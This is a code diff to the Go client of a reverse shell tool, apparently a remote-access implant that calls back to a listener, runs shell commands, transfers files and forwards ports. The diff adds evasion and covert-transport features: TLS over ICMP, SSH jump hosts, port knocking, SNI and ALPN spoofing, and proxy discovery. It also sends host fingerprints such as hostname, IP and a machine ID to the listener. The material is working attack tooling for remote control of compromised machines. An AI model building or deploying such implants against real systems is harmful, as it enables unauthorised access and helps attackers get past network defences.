@@ -19,30 +19,98 @@ import (
 	"sync"
 	"time"
 
+	"github.com/frjcomp/gots/pkg/chaos"
+	"github.com/frjcomp/gots/pkg/compression"
 	"github.com/frjcomp/gots/pkg/protocol"
+	"github.com/frjcomp/gots/pkg/replay"
 )
 
 // ReverseClient represents a reverse shell client that connects to a listener
 // and handles command execution and file transfers.
 type ReverseClient struct {
-	target            string
-	sharedSecret      string // Optional shared secret for authentication
-	certFingerprint   string // Optional expected certificate fingerprint
-	conn              *tls.Conn
-	reader            *bufio.Reader
-	writer            *bufio.Writer
-	isConnected       bool
-	currentUploadPath string
-	uploadChunks      []string
-	runningCmd        *exec.Cmd
-	ptyFile           *os.File        // PTY file for shell
-	ptyCmd            *exec.Cmd       // Command running in PTY
-	inPtyMode         bool            // Whether currently in PTY mode
-	ptyMutex          sync.Mutex      // Protects PTY state
-	forwardHandler    *ForwardHandler // Port forwarding handler
-	socksHandler      *SocksHandler   // SOCKS5 proxy handler
+	target          string
+	sharedSecret    string // Optional shared secret for authentication
+	certFingerprint string // Optional expected certificate fingerprint
+	conn            net.Conn
+	reader          *bufio.Reader
+	writer          *bufio.Writer
+	isConnected     bool
+	uploads         map[string]*uploadState // Uploads in progress by transfer ID
+	runningCmd      *exec.Cmd
+	ptyFile         *os.File        // PTY file for shell
+	ptyCmd          *exec.Cmd       // Command running in PTY
+	inPtyMode       bool            // Whether currently in PTY mode
+	ptyMutex        sync.Mutex      // Protects PTY state
+	forwardHandler  *ForwardHandler // Port forwarding handler
+	socksHandler    *SocksHandler   // SOCKS5 proxy handler
+	watches         *watchHandler   // File watches, started by the first WATCH
+	rekeyRequested  bool            // The listener sent REKEY; see rekeyReady
+	lastCommand     time.Time       // When the last command other than PING arrived
+	envFile         string          // Sourced before every shell command; set with ENV_FILE
+	options         Options         // Optional behaviour supplied by the caller
 }
 
+// Options holds optional client settings that do not affect the connection
+// handshake itself.
+type Options struct {
+	Tags                     []string // Tags announced to the listener in IDENT (e.g. "lab")
+	DisableSessionResumption bool     // Always perform a full TLS handshake on reconnect
+	SNI                      string   // TLS server name to send instead of the target host
+	ALPN                     []string // ALPN protocols to offer
+	BindInterface            string   // Outbound interface for the callback (e.g. "eth1")
+	SourceIP                 string   // Local address to connect from
+	MachineIDSalt            string   // Salt for the machine ID in IDENT; DefaultMachineIDSalt when empty
+	// PingInterval is how often the listener should ping this client. Only
+	// intervals shorter than the listener's default are requested; zero
+	// keeps the default.
+	PingInterval time.Duration
+	AdaptivePing bool // Shorten PingInterval after repeated idle drops
+	// Nice lowers the CPU priority of gotsr and the commands it runs, as
+	// with nice(1); on Windows 1-14 selects below normal and 15 or more
+	// idle priority. Applied by ApplyResourceLimits.
+	Nice int
+	// MemoryLimit is a soft cap in bytes: the Go runtime collects garbage
+	// harder near it, and transfers that would exceed it are refused.
+	MemoryLimit int64
+	// BandwidthLimit caps the traffic to and from the listener in bytes per
+	// second, including forwarded and SOCKS connections.
+	BandwidthLimit int64
+	// MaxTransferSize refuses uploads and downloads of larger files. It is
+	// announced in IDENT, so the listener refuses them before sending.
+	MaxTransferSize int64
+	// RecordDir records each connection to a file in this directory, for
+	// replay with package replay.
+	RecordDir string
+	// SSHJump reaches the listener through an SSH server, "user@host[:port]",
+	// logging in with SSHKey (a private key file), SSHPassword or an
+	// ssh-agent. SSHHostKey pins the server's SHA256 host key fingerprint.
+	SSHJump     string
+	SSHKey      string
+	SSHPassword string
+	SSHHostKey  string
+	// Proxy is an http:// or socks5:// proxy URL, or "none". When empty the
+	// proxy comes from HTTPS_PROXY or the system settings; ProxyPAC allows
+	// taking it from the PAC file those settings name.
+	Proxy    string
+	ProxyPAC bool
+	// Knock is a knock sequence, e.g. "tcp:7000,udp:8000,spa:62201", sent to
+	// the listener's host before each TCP connection attempt. SPA knocks
+	// are signed with SPAKey, 64 hex characters.
+	Knock  string
+	SPAKey string
+	// Chaos injects latency, lost and reordered frames and disconnects into
+	// every connection, for testing only.
+	Chaos chaos.Config
+}
+
+// sessionCache holds TLS session tickets across ReverseClient instances, since
+// gotsr creates a fresh client for every reconnect attempt.
+var sessionCache = tls.NewLRUClientSessionCache(16)
+
+// ErrTerminated is returned by HandleCommands when the listener asks the
+// client to shut down for good rather than reconnect.
+var ErrTerminated = errors.New("terminated by listener")
+
 var (
 	globalSessionID string
 	sessionIDOnce   sync.Once
@@ -74,10 +142,16 @@ func generateShortID() string {
 
 // NewReverseClient creates a new reverse shell client
 func NewReverseClient(target, sharedSecret, certFingerprint string) *ReverseClient {
+	return NewReverseClientWithOptions(target, sharedSecret, certFingerprint, Options{})
+}
+
+// NewReverseClientWithOptions creates a new reverse shell client with optional settings
+func NewReverseClientWithOptions(target, sharedSecret, certFingerprint string, opts Options) *ReverseClient {
 	return &ReverseClient{
 		target:          target,
 		sharedSecret:    sharedSecret,
 		certFingerprint: certFingerprint,
+		options:         opts,
 	}
 }
 
@@ -132,16 +206,76 @@ func (rc *ReverseClient) Connect() error {
 			return nil // Allow connection despite security risk
 		},
 	}
+	// Resumed sessions skip VerifyPeerCertificate, but a ticket is only
+	// cached after a full handshake that passed the checks above.
+	if !rc.options.DisableSessionResumption {
+		tlsConfig.ClientSessionCache = sessionCache
+	}
+	if rc.options.SNI != "" {
+		tlsConfig.ServerName = rc.options.SNI
+	}
+	if len(rc.options.ALPN) > 0 {
+		tlsConfig.NextProtos = rc.options.ALPN
+	}
+
+	dialer, err := rc.newDialer()
+	if err != nil {
+		return fmt.Errorf("connection failed: %w", err)
+	}
+
+	network, address := protocol.SplitAddress(rc.target)
+	if network == "unix" && tlsConfig.ServerName == "" {
+		// A socket path is not a meaningful server name
+		tlsConfig.ServerName = "localhost"
+	}
 
 	// Establish TLS connection with validation
-	conn, err := tls.Dial("tcp", rc.target, tlsConfig)
+	var conn *tls.Conn
+	switch {
+	case network == "icmp":
+		conn, err = dialTLSOverICMP(address, tlsConfig)
+	case rc.options.SSHJump != "":
+		conn, err = rc.dialTLSOverSSH(dialer, network, address, tlsConfig)
+	case network == "tcp":
+		if rc.options.Knock != "" {
+			if err := rc.knock(dialer, address); err != nil {
+				return fmt.Errorf("connection failed: %w", err)
+			}
+		}
+		var raw net.Conn
+		if raw, err = rc.dialTCP(dialer, address); err == nil {
+			conn, err = clientTLS(raw, address, tlsConfig)
+		}
+	default:
+		conn, err = tls.DialWithDialer(dialer, network, address, tlsConfig)
+	}
 	if err != nil {
 		return fmt.Errorf("connection failed: %w", err)
 	}
 
+	if conn.ConnectionState().DidResume {
+		log.Printf("✓ TLS session resumed")
+	}
+	return rc.ConnectConn(conn)
+}
+
+// ConnectConn runs the handshake with the listener over an established
+// connection instead of dialing the target, e.g. an in-memory pipe in tests.
+// The connection is closed if the handshake fails.
+func (rc *ReverseClient) ConnectConn(conn net.Conn) error {
+	conn = rc.options.Chaos.Wrap(conn)
+	if rc.options.RecordDir != "" {
+		recorded, err := replay.RecordToDir(conn, replay.FromClient, rc.options.RecordDir)
+		if err != nil {
+			log.Printf("Warning: not recording the session: %v", err)
+		} else {
+			conn = recorded
+		}
+	}
 	rc.conn = conn
-	rc.reader = bufio.NewReader(conn)
-	rc.writer = bufio.NewWriter(conn)
+	metered := rc.meter(conn)
+	rc.reader = bufio.NewReader(metered)
+	rc.writer = bufio.NewWriter(metered)
 
 	// Perform authentication if shared secret is provided
 	if rc.sharedSecret != "" {
@@ -211,8 +345,25 @@ func (rc *ReverseClient) buildIdentPayload(id string) string {
 	if host, err := os.Hostname(); err == nil && host != "" {
 		parts = append(parts, "host="+host)
 	}
-	if ip := localIP(rc.conn); ip != "" {
-		parts = append(parts, "ip="+ip)
+	if rc.conn != nil {
+		if ip := localIP(rc.conn); ip != "" {
+			parts = append(parts, "ip="+ip)
+		}
+	}
+	if len(rc.options.Tags) > 0 {
+		parts = append(parts, "tags="+strings.Join(rc.options.Tags, ","))
+	}
+	if mid := MachineID(rc.options.MachineIDSalt); mid != "" {
+		parts = append(parts, "mid="+mid)
+	}
+	parts = append(parts, "caps="+strings.Join(Capabilities(), ","))
+	parts = append(parts, protocol.IdentCodecs+"="+strings.Join(compression.Codecs, ","))
+	parts = append(parts, fmt.Sprintf("%s=%d", protocol.IdentFrame, protocol.MaxBufferSize))
+	if rc.options.MaxTransferSize > 0 {
+		parts = append(parts, fmt.Sprintf("%s=%d", protocol.IdentTransfer, rc.options.MaxTransferSize))
+	}
+	if d := rc.pingInterval(); d < protocol.PingInterval*time.Second {
+		parts = append(parts, fmt.Sprintf("ping=%d", int(d/time.Second)))
 	}
 	return strings.Join(parts, " ") + "\n"
 }
@@ -253,6 +404,9 @@ func (rc *ReverseClient) Close() error {
 	if rc.socksHandler != nil {
 		rc.socksHandler.Close()
 	}
+	if rc.watches != nil {
+		rc.watches.close()
+	}
 	return rc.conn.Close()
 }
 
@@ -284,7 +438,9 @@ func executeShellCommand(command string) (string, error) {
 
 // HandleCommands listens for commands and executes them
 func (rc *ReverseClient) HandleCommands() error {
+	defer rc.abortUploads()
 	var cmdBuffer strings.Builder
+	lastRead := time.Now()
 
 	for {
 		// Set read deadline to allow graceful shutdown
@@ -296,6 +452,9 @@ func (rc *ReverseClient) HandleCommands() error {
 			rc.conn.SetReadDeadline(time.Time{})
 		}
 
+		if len(line) > 0 {
+			lastRead = time.Now()
+		}
 		cmdBuffer.WriteString(line)
 
 		if errors.Is(err, bufio.ErrBufferFull) {
@@ -308,11 +467,21 @@ func (rc *ReverseClient) HandleCommands() error {
 
 		if err != nil {
 			if err == io.EOF {
+				rc.connectionLost(lastRead, false)
 				return nil
 			}
 			if netErr, ok := err.(interface{ Timeout() bool }); ok && netErr.Timeout() {
+				if time.Since(lastRead) > keepaliveTimeout {
+					rc.connectionLost(lastRead, true)
+					return errKeepaliveTimeout
+				}
+				if rc.rekeyReady() {
+					log.Printf("Reconnecting for new session keys")
+					return ErrRekey
+				}
 				continue
 			}
+			rc.connectionLost(lastRead, true)
 			return fmt.Errorf("read error: %w", err)
 		}
 
@@ -346,6 +515,11 @@ func (rc *ReverseClient) HandleCommands() error {
 
 		// Process command using extracted handler
 		shouldContinue, err := rc.processCommand(command)
+		// A long command is not silence from the listener
+		lastRead = time.Now()
+		if errors.Is(err, ErrTerminated) {
+			return err
+		}
 		if err != nil {
 			log.Printf("Error processing command: %v", err)
 			continue